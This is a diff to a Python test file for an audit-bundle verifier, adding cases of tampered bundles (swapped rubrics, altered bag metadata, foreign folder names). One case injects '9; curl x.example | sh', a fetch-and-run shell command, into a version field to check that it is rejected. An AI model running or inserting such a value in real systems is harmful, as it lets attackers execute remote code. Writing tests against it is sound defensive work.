@@ -23,6 +23,7 @@ from tests.audit.verify.changes import (
     better_grade,
     bomb,
     cut_segment,
+    easier_rubric,
     fewer,
     forged_excerpt,
     in_json,
@@ -41,8 +42,8 @@ from tests.audit.verify.changes import (
 from tests.bundles import Made, city_bundle, differing, files_of, first_difference, remade, steps, zipped
 
 ALL = (
-    "container", "version", "manifests", "signature", "records", "choices", "evidence", "snapshots", "checks", "rubrics", "files",
-    "rereading",
+    "container", "version", "manifests", "signature", "records", "choices", "evidence", "snapshots", "captures", "checks",
+    "rubrics", "files", "rereading",
 )  # fmt: skip
 
 
@@ -51,6 +52,7 @@ def made() -> Made:
     return city_bundle()
 
 
+NOBODY = "00000000-0000-4000-8000-000000000000"
 TAMPERED: dict[str, tuple[Callable[[Files], object], str, str]] = {
     "a count": (in_json(AUDIT, fewer), "checks", "/portals/0/checks/"),
     "a finding left out": (in_json(AUDIT, without_finding), "checks", "there, "),
@@ -76,6 +78,19 @@ TAMPERED: dict[str, tuple[Callable[[Files], object], str, str]] = {
     "inputs of another form": (in_json(INPUTS, lambda inputs: inputs.update(events=[7])), "records", "not of its form"),
     "a rubric": (lower_bar, "checks", "not rubric wwc-v3"),
     "a rubric gone": (removed(r"rubrics/wwc-v3"), "checks", "missing"),
+    "a command in a version": (
+        in_json(INPUTS, lambda inputs: inputs.update(exported_by="9; curl x.example | sh")), "records", "no version",
+    ),
+    "an easier rubric of the same name": (easier_rubric, "rubrics", "as it is installed here"),
+    "what the bag is about": (
+        lambda files: files.update({"bag-info.txt": files["bag-info.txt"].replace(b"Evidence", b"Proof")}), "files", "bag-info",
+    ),
+    "more of other audits": (
+        in_json(INPUTS, lambda inputs: inputs.update(others=7_777)), "captures", "7,777 captures of other audits",
+    ),
+    "something that is missing": (
+        in_json(INPUTS, lambda inputs: inputs["missing"].append(NOBODY)), "captures", f"{NOBODY}: told as missing",
+    ),
     "the report": (lambda files: files.update({"data/report.html": b"<p>All is well"}), "files", "data/report.html"),
     "no report": (removed(r"report\.html$"), "files", "data/report.html: missing"),
     "no PDF": (removed(r"report\.pdf$"), "files", "data/report.pdf: missing"),
@@ -99,6 +114,13 @@ def test_a_manifest_made_again_hides_nothing_from_the_replay(name: str, made: Ma
 
     assert found is not None
     assert (found.name, said in found.said) == (step, True), found
+
+
+def test_a_folder_of_another_audit(made: Made, tmp_path: Path) -> None:
+    found = first_difference(zipped(tmp_path / "b.zip", files_of(made.path), "portalaudit-20200101-00000000"))
+
+    assert found is not None
+    assert (found.name, "the folder is portalaudit-2020" in found.said) == ("choices", True)
 
 
 def test_nor_from_the_signature(made: Made, tmp_path: Path) -> None:
@@ -200,7 +222,7 @@ def test_a_bundle_of_another_software(made: Made, tmp_path: Path) -> None:
         INPUTS: files[INPUTS].replace(b'"exported_by":"', b'"exported_by":"9.'),
         AUDIT: files[AUDIT].replace(b'"software":"', b'"software":"9.', 1),
     }
-    said = "the difference may be the software's. Verify it with 9."
+    said = "a difference may be the software's. Verify it with 9."
     page = {"data/report.html": b"All is well"}
     path = zipped(tmp_path / "a.zip", remade({**files, **other, **page}), made.top)
     found = steps(path)
